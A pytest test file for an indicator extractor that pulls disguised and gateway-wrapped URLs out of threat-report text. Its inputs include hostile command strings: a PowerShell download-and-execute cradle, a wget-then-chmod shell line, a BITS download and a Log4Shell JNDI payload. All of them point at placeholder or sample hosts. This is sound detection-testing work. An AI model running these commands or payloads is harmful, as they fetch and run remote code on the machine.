"""URLs in running text: where they begin and end, how they are disguised, and the links of mail gateways."""

import pytest

from tests.support.values import found
from vt import extract


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "https://http://evil-cdn.com/a hxxp://hxxps://evil-cdn[.]com/b",
            ["url http://evil-cdn.com/a", "url https://evil-cdn.com/b"],
        ),
        (
            "http://https//evil-cdn.com/c http:http://evil-cdn.com/d",
            ["url https://evil-cdn.com/c", "url http://evil-cdn.com/d"],
        ),
        ("http://http://http://evil-cdn.com/e", ["url http://evil-cdn.com/e"]),
        (
            "https://web.archive.org/web/2026/http://evil-cdn.com/f",
            ["url https://web.archive.org/web/2026/http://evil-cdn.com/f"],
        ),
        ("HTTP://HTTPS://evil-cdn.com/g", ["url https://evil-cdn.com/g"]),
        ("https:// https://evil-cdn.com/h", ["url https://evil-cdn.com/h"]),
        ("ftp://http://evil-cdn.com/i", ["url http://evil-cdn.com/i"]),
        (
            "https://evil-cdn.com/?u=http://http.bad-cdn.net/",
            ["url https://evil-cdn.com/?u=http://http.bad-cdn.net/"],
        ),
    ],
)
def test_a_doubled_scheme_is_one_scheme(text, expected):
    """The last of several schemes counts; a URL in the path of another stays there."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https:\\\\evil-cdn.com\\a\\b.php?x=\\1", ["url https://evil-cdn.com/a/b.php?x=\\1"]),
        (
            "http:/\\evil-cdn.com/a http:\\/evil-cdn.com/b",
            ["url http://evil-cdn.com/a", "url http://evil-cdn.com/b"],
        ),
        ("http://evil-cdn.com\\x\\y.exe", ["url http://evil-cdn.com/x/y.exe"]),
        ("https://good.com\\@evil-cdn.com/", ["url https://good.com/@evil-cdn.com/"]),
        ("hxxp:\\\\evil-cdn[.]com\\news\\readme.txt", ["url http://evil-cdn.com/news/readme.txt"]),
        ("C:\\Users\\evil.com\\x.exe \\\\server\\share\\evil.com", []),
        ("http:\\\\\\\\45.83.122.20\\\\qb.doc", ["url http://45.83.122.20/qb.doc"]),
        ("ftp:\\\\45.83.122.20\\pub\\a.zip", ["url ftp://45.83.122.20/pub/a.zip"]),
        ("https:\\evil-cdn.com\\x", ["url https://evil-cdn.com/x"]),
    ],
)
def test_backslashes_are_slashes_as_browsers_read_them(text, expected):
    """A backslash after the scheme, the host or in the path of a URL is a slash; Windows paths are not URLs."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "h00p://evil-cdn.com/a h00ps://evil-cdn.com/b hXXX://evil-cdn.com/c hxxxs://evil-cdn.com/d",
            [
                "url http://evil-cdn.com/a",
                "url https://evil-cdn.com/b",
                "url http://evil-cdn.com/c",
                "url https://evil-cdn.com/d",
            ],
        ),
        (
            "xxxx://evil-cdn.com/a xxxxs://evil-cdn.com/b xxxxx://evil-cdn.com/c",
            ["url http://evil-cdn.com/a", "url https://evil-cdn.com/b", "url https://evil-cdn.com/c"],
        ),
        (
            "meow://evil-cdn.com/a meows://evil-cdn.com/b fxp://evil-cdn.com/c fxps://evil-cdn.com/d",
            [
                "url http://evil-cdn.com/a",
                "url https://evil-cdn.com/b",
                "url ftp://evil-cdn.com/c",
                "url ftps://evil-cdn.com/d",
            ],
        ),
        (
            "h++p://evil-cdn.com/a h**p://evil-cdn.com/b hzzp://evil-cdn.com/c htxp://evil-cdn.com/d",
            [
                "url http://evil-cdn.com/a",
                "url http://evil-cdn.com/b",
                "url http://evil-cdn.com/c",
                "url http://evil-cdn.com/d",
            ],
        ),
        (
            "hxxp[:]//evil-cdn[.]com/a, h00p[://]evil-cdn[.]com/b, xxxx[:]//evil-cdn[.]com/c",
            ["url http://evil-cdn.com/a", "url http://evil-cdn.com/b", "url http://evil-cdn.com/c"],
        ),
        (
            "sfxp://evil-cdn.com/x f**p://evil-cdn.com/y",
            ["url sftp://evil-cdn.com/x", "url ftp://evil-cdn.com/y"],
        ),
        ("tcp://evil-cdn.com:8989/bad s3://bucket/x xxxx__name hxxx", ["domain evil-cdn.com"]),
        (
            "HXXP://EVIL-CDN.COM/A MEOW://EVIL-CDN.COM/B H00P://EVIL-CDN.COM/C",
            ["url http://evil-cdn.com/A", "url http://evil-cdn.com/B", "url http://evil-cdn.com/C"],
        ),
        (
            "http[://]autodefragapp[.]com/ hxxps[://]olmajhnservice[.]com/nt[.]php/?dt=%25computername%25-BKP&ct=BKP",
            [
                "url http://autodefragapp.com/",
                "url https://olmajhnservice.com/nt.php/?dt=%25computername%25-BKP&ct=BKP",
            ],
        ),
        (
            "hxxxp://evil-cdn.com/a hxxxps://evil-cdn.com/b",
            ["url http://evil-cdn.com/a", "url https://evil-cdn.com/b"],
        ),
        (
            "hXXp(s)://evil-cdn.com/a hxxp[s]://evil-cdn.com/b",
            ["url https://evil-cdn.com/a", "url https://evil-cdn.com/b"],
        ),
    ],
)
def test_disguised_schemes_are_recognised(text, expected):
    """Every usual way of making a scheme harmless is undone."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "IEX(New-Object Net.WebClient).DownloadString('http://45.83.122.22/x.ps1')",
            ["url http://45.83.122.22/x.ps1"],
        ),
        ("$u='http://evil-cdn.com/a.ps1';iex $u", ["url http://evil-cdn.com/a.ps1"]),
        ("Start-BitsTransfer http://evil-cdn.com/a.exe',$env:TEMP", ["url http://evil-cdn.com/a.exe"]),
        (
            "['http://evil-cdn.com/a','http://evil-cdn.com/b']",
            ["url http://evil-cdn.com/a", "url http://evil-cdn.com/b"],
        ),
        ("http://evil-cdn.com/it's-me/x", ["url http://evil-cdn.com/it's-me/x"]),
    ],
)
def test_a_quote_in_a_script_ends_a_url(text, expected):
    """A quote before a comma, a bracket or a semicolon ends the URL; one inside a word does not."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("(see https://a.com/x_(y)).", ["url https://a.com/x_(y)"]),
        (
            "[report](https://a.com/r) and <a href='https://a.com/q'>",
            ["url https://a.com/r", "url https://a.com/q"],
        ),
        ("https://a.com/p,q;r?s=[1]&t={2}, then", ["url https://a.com/p,q;r?s=[1]&t={2}"]),
        (
            "*https://a.com/b* _https://a.com/i_ http://a.com/c's end!",
            ["url https://a.com/b", "url https://a.com/i", "url http://a.com/c"],
        ),
        ("x,http://a.com/1,http://a.com/2,y", ["url http://a.com/1", "url http://a.com/2"]),
        ("wget http://5.6.7.8/b.sh;chmod +x b.sh", ["url http://5.6.7.8/b.sh"]),
        ('{"u":"https:\\/\\/a.com\\/x"}', ["url https://a.com/x"]),
        ("http://me:pw@a.com:8080/?q", ["url http://me:pw@a.com:8080/?q"]),
        ("http://[2a01:4f8::0:2]:80/gate", ["url http://[2a01:4f8::2]:80/gate"]),
        (
            "https://good.com@evil.com/ and https://evil.com\\@good.com",
            ["url https://good.com@evil.com/", "url https://evil.com/@good.com"],
        ),
        (
            "a.com/x b.net:8080/y?z=1 5.6.7.8/q",
            ["url http://a.com/x", "url http://b.net:8080/y?z=1", "url http://5.6.7.8/q"],
        ),
        ("a.com:443 and 5.6.7.8:80", ["domain a.com", "ipv4 5.6.7.8"]),
        ("http://2899908174/x", ["url http://172.217.22.78/x"]),
        ("${jndi:ldap://5.6.7.8:1389/a}", ["ipv4 5.6.7.8"]),
        ("href=//cdn.evil.com/a.js", ["url http://cdn.evil.com/a.js"]),
    ],
)
def test_urls_begin_and_end_where_they_do(text, expected):
    """Punctuation, brackets, quotes, lists and commands around a URL are not its own; its own are kept."""
    assert found(text) == expected


@pytest.mark.parametrize(
    "wrapped",
    [
        "https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%23c&data=05%7Cjane%40acme.com",
        "https://urldefense.proofpoint.com/v1/url?u=https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%23c&k=x",
        "https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.com_a-3Fb-3D1-23c&d=DwMFaQ",
        "https://urldefense.com/v3/__https://evil.com/a?b=1*c__;Iw!!abc!def$",
        "https://linkprotect.cudasvc.com/url?a=https%3a%2f%2fevil.com%2fa%3fb%3d1%23c&c=E,1",
        "https://secure-web.cisco.com/1aB_-c/https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%23c",
        "hxxps://slack-redir[.]net/link?url=https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%23c",
        "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Furldefense.com%2Fv3%2F__https%3A%2F%2Fevil.com%2Fa%3Fb%3D1%2Ac__%3BIw%21%21",
    ],
)
def test_the_url_behind_a_mail_gateway_is_what_is_found(wrapped):
    """Protected links are opened, one inside another too, and nothing of the wrapper stays: it names the reader."""
    [indicator] = extract(f"clicked <{wrapped}>")
    assert (indicator.value, indicator.written) == ("https://evil.com/a?b=1#c", "https://evil.com/a?b=1#c")


@pytest.mark.parametrize(
    "broken",
    [
        "https://urldefense.com/v3/__https://evil.com/*__;!!!!",
        "https://urldefense.com/v3/__nothing__;gICA!!",
        "https://nam12.safelinks.protection.outlook.com/?url=intranet",
        "https://www.google.com/url?q=" + "%",
    ],
)
def test_a_wrapper_that_cannot_be_opened_stays_a_url(broken):
    """A link that only looks like a gateway's is a URL like any other."""
    assert len(extract(broken)) == 1
